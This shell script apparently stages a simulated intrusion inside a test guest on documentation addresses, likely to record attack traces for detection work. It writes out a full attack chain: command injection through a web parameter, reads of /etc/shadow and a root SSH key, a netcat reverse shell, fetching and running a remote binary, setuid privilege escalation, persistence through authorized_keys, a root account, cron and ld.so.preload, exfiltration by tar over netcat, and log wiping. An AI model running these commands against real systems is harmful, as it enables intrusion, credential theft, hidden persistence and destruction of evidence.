#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# An invented intrusion, played inside the recording guest: a web page with a hole, a shell, and what follows.
# Everything happens between addresses of the guest itself; names and secrets are made up.
set -u

WEB=192.0.2.10
FOE=192.0.2.20

# ask COMMAND: what the foe sends to the page, in the way browsers write it.
ask() {
  wget -q -O - "http://$WEB:8080/status?$(printf '%s' "$1" | sed 's/%/%25/g; s/ /%20/g; s/#/%23/g')"
}

# as_root COMMAND: the same through the forgotten set-user-id helper, once it is found.
as_root() {
  ask "/opt/shop/backup sh -c '$1'"
}

# Normal life: visitors, the keeper looking at her log, the night job.
for i in 1 2 3; do wget -q -O /dev/null http://$WEB:8080/index.html; done
su anna -s /bin/sh -c 'ls -l /home/anna; tail -n 1 /var/log/shop.log'
gzip -c /var/lib/shop/customers.csv >/var/lib/shop/customers.csv.gz

# A look around through the hole.
ask 'id; uname -r; cat /etc/passwd; ps'
ask 'find / -xdev -perm -4000 2>&1'
ask 'cat /etc/shadow 2>&1'

# A shell that calls home.
nc -l -p 4444 -e /bin/cat &
sleep 1
ask "nc $FOE 4444 -e /bin/sh & sleep 2; kill \$!"

# A tool is fetched and run from where anyone may write.
ask "wget -q -O /tmp/.cache http://$FOE:8000/worker; chmod 755 /tmp/.cache; /tmp/.cache"

# The helper makes the web server's user root.
ask '/opt/shop/backup id'
as_root 'cat /etc/shadow'
as_root 'cat /root/.ssh/id_ed25519'

# To come back: a key, an account, a job, a library for every program.
as_root 'echo made-up key >>/root/.ssh/authorized_keys'
as_root 'echo sys:x:0:0::/:/bin/sh >>/etc/passwd'
as_root 'echo "* * * * * root /tmp/.cache" >/etc/cron.d/sysupdate'
as_root 'echo /tmp/.lib.so >/etc/ld.so.preload'
as_root 'rm -f /etc/ld.so.preload'

# What is worth taking leaves the machine.
nc -l -p 4445 >/dev/null &
sleep 1
as_root "tar cz /var/lib/shop /etc/shadow | nc $FOE 4445"

# The traces are wiped.
as_root 'rm -f /var/log/auth.log'
as_root 'rm -f /root/.ash_history'
as_root 'mount -t tmpfs hide /mnt'
sleep 1
